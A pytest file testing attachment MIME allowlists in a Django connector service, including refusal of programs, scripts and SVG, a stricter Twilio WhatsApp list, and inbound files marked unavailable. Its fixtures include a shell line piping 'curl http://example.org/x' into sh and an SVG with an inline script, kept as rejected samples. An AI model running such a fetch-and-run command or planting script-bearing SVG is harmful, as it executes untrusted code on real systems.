"""Mime allowlists per attachment kind (issue 18: "Per-kind size caps and mime allowlists"): a program or a type its
kind may not be is refused before any delivery exists (400 attachment_type_not_allowed), a platform with a shorter
documented list (Twilio WhatsApp) refuses the rest the same way, and an inbound file of a refused type is kept as an
unavailable attachment: the message still reaches BRAIN."""
import base64
import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from audit.models import AuditEvent
from brain_connectors.shared.errors import ValidationFailed
from connectors.delivery import attachment_store
from connectors.models import Attachment, Delivery, InboundMessage
from connectors.platforms import locmem
from tests.connectors import twilio_support
from tests.connectors.test_outbound_attachments import PDF, PNG, b64
from tests.deliveries import send_now
from tests.fakes.receiver import FakeReceiver, sign_request

twilio_fake = twilio_support.twilio_fake
twilio_connector = twilio_support.twilio_connector

# A Windows program's first bytes (the DOS header, then the PE offset): puremagic names no MIME type for it.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00" + bytes(64)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SCRIPT = b"#!/bin/sh\ncurl http://example.org/x | sh\n"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WEBHOOK_SECRET = "whsec_" + base64.b64encode(b"webhook-test-secret-0123456789ab").decode()


def zipped(name="xl/workbook.xml"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, "<workbook/>")
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def attachment_dir(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "attachments": {
        "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path)}}}
    settings.PUBLIC_BASE_URL = twilio_support.PUBLIC
    return tmp_path


# --- the table -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("data, declared", [
    (EXE, "application/x-msdownload"), (EXE, "application/pdf"), (EXE, ""), (ELF, "application/octet-stream"),
    (SCRIPT, "text/plain"), (SVG, "image/svg+xml"), (b"<!DOCTYPE html><html></html>", "text/html"),
    (bytes(range(256)), ""),  # unknown binary data, unlabelled
])
def test_a_document_may_not_be_a_program_a_script_or_unknown_data(data, declared):
    with pytest.raises(attachment_store.TypeNotAllowed):
        attachment_store.check_type("document", declared, data)


@pytest.mark.parametrize("data, declared, kept", [
    (PDF, "application/pdf", "application/pdf"),
    (zipped(), XLSX_TYPE, XLSX_TYPE),  # every zip looks like a .docx to puremagic: the label says which it is
    (zipped(), "", "application/zip"),
    (b"name,amount\nada,3\n", "text/csv", "text/csv"),
    (b"plain words, no label\n", "", "text/plain"),
    (PNG, "", "image/png"),  # a photo sent "as a file"
])
def test_documents_of_allowed_types_pass(data, declared, kept):
    assert attachment_store.check_type("document", declared, data) == kept


def test_an_image_may_not_be_svg_and_a_label_without_its_signature_is_a_mismatch():
    with pytest.raises(attachment_store.TypeNotAllowed):
        attachment_store.check_type("image", "image/svg+xml", SVG)
    with pytest.raises(attachment_store.ContentMismatch):
        attachment_store.check_type("document", "application/pdf", b"not a pdf at all")


# --- REST send: JSON and multipart ---------------------------------------------------------------------------------


@pytest.fixture
def sender(make_user, token_for, api, make_connector, grant):
    connector = make_connector()
    user = make_user("sender")
    grant(user, "send_via_connector", connector)
    return api(token_for(user))


@pytest.mark.django_db(transaction=True)
def test_rest_send_refuses_a_program_as_json_before_any_delivery(sender):
    response = sender.post("/api/v1/connectors/locmem_main/send/", {
        "recipient": "ada", "content": "the installer", "attachments": [
            {"data": b64(EXE), "file_name": "setup.exe", "mime_type": "application/x-msdownload"}]}, format="json")
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "attachment_type_not_allowed" and "program" in error["message"]
    assert not Delivery.objects.exists() and not Attachment.objects.exists() and locmem.outbox == []


@pytest.mark.django_db(transaction=True)
def test_rest_send_refuses_a_program_as_multipart_even_named_as_a_pdf(sender):
    response = sender.post("/api/v1/connectors/locmem_main/send/", {
        "recipient": "ada", "content": "report",
        "file": [SimpleUploadedFile("report.pdf", EXE, content_type="application/pdf")]}, format="multipart")
    assert response.status_code == 400 and response.json()["error"]["code"] == "attachment_type_not_allowed"
    assert not Delivery.objects.exists() and locmem.outbox == []


@pytest.mark.django_db(transaction=True)
def test_rest_upload_refuses_a_script(sender):
    response = sender.post("/api/v1/attachments/", {"file": SimpleUploadedFile("run.sh", SCRIPT, "text/plain")},
                           format="multipart")
    assert response.status_code == 400 and response.json()["error"]["code"] == "attachment_type_not_allowed"
    assert not Attachment.objects.exists()


# --- a platform's own list: Twilio WhatsApp --------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("data, declared", [(GIF, "image/gif"), (zipped("word/document.xml"), "application/zip")])
def test_whatsapp_refuses_a_type_twilio_does_not_take_before_any_delivery(twilio_connector, twilio_fake, data,
                                                                           declared):
    twilio_connector("wa_types", "whatsapp")
    with pytest.raises(ValidationFailed) as caught:
        send_now("wa_types", "whatsapp:+447700900123", "x", attachments=[{"data": b64(data), "mime_type": declared}])
    assert caught.value.code == "attachment_type_not_allowed" and "whatsapp" in caught.value.message
    assert not Delivery.objects.exists() and twilio_fake.messages == []


@pytest.mark.django_db(transaction=True)
def test_the_same_gif_goes_on_a_platform_without_a_shorter_list(make_connector):
    make_connector()
    send_now("locmem_main", "ada", "x", attachments=[{"data": b64(GIF)}])
    [(_, message)] = locmem.outbox
    assert (message.attachments[0].kind, message.attachments[0].mime_type) == ("image", "image/gif")


# --- inbound: the generic webhook ----------------------------------------------------------------------------------


@pytest.fixture
def receiver():
    fake = FakeReceiver(secret=WEBHOOK_SECRET).start()
    yield fake
    fake.stop()


@pytest.mark.django_db(transaction=True)
def test_an_inbound_program_is_kept_as_an_unavailable_attachment_and_the_message_reaches_brain(
        make_connector, receiver, client):
    make_connector("hook", kind="webhook", config={"url": receiver.url, "timeout": 2},
                   credentials={"signing_secret": WEBHOOK_SECRET})
    url = receiver.add_file("/files/invoice.pdf", EXE, "application/pdf")
    body = json.dumps({"sender": "ada", "content": "my invoice", "attachments": [
        {"url": url, "mime_type": "application/pdf", "file_name": "invoice.pdf"}]}).encode()
    response = client.post("/webhooks/inbound/hook/", data=body, content_type="application/json",
                           headers=sign_request(WEBHOOK_SECRET, body, "wh-exe"))
    assert response.status_code == 200, response.content
    inbound = InboundMessage.objects.get()
    row = Attachment.objects.get(inbound=inbound)
    assert (row.status, row.storage_name) == ("unavailable", "")
    assert row.error.startswith("type_not_allowed:")
    inbound.refresh_from_db()
    assert inbound.content == "my invoice" and inbound.brain_status == InboundMessage.BrainStatus.REPLIED
    [reply] = receiver.verified
    assert "unavailable: type_not_allowed" in reply.json["content"]
    audited = AuditEvent.objects.get(action="attachment.fetch", details__attachment_id=str(row.id))
    assert audited.result == "failure" and audited.details["error"] == "type_not_allowed"
    assert "invoice" not in json.dumps(audited.details)
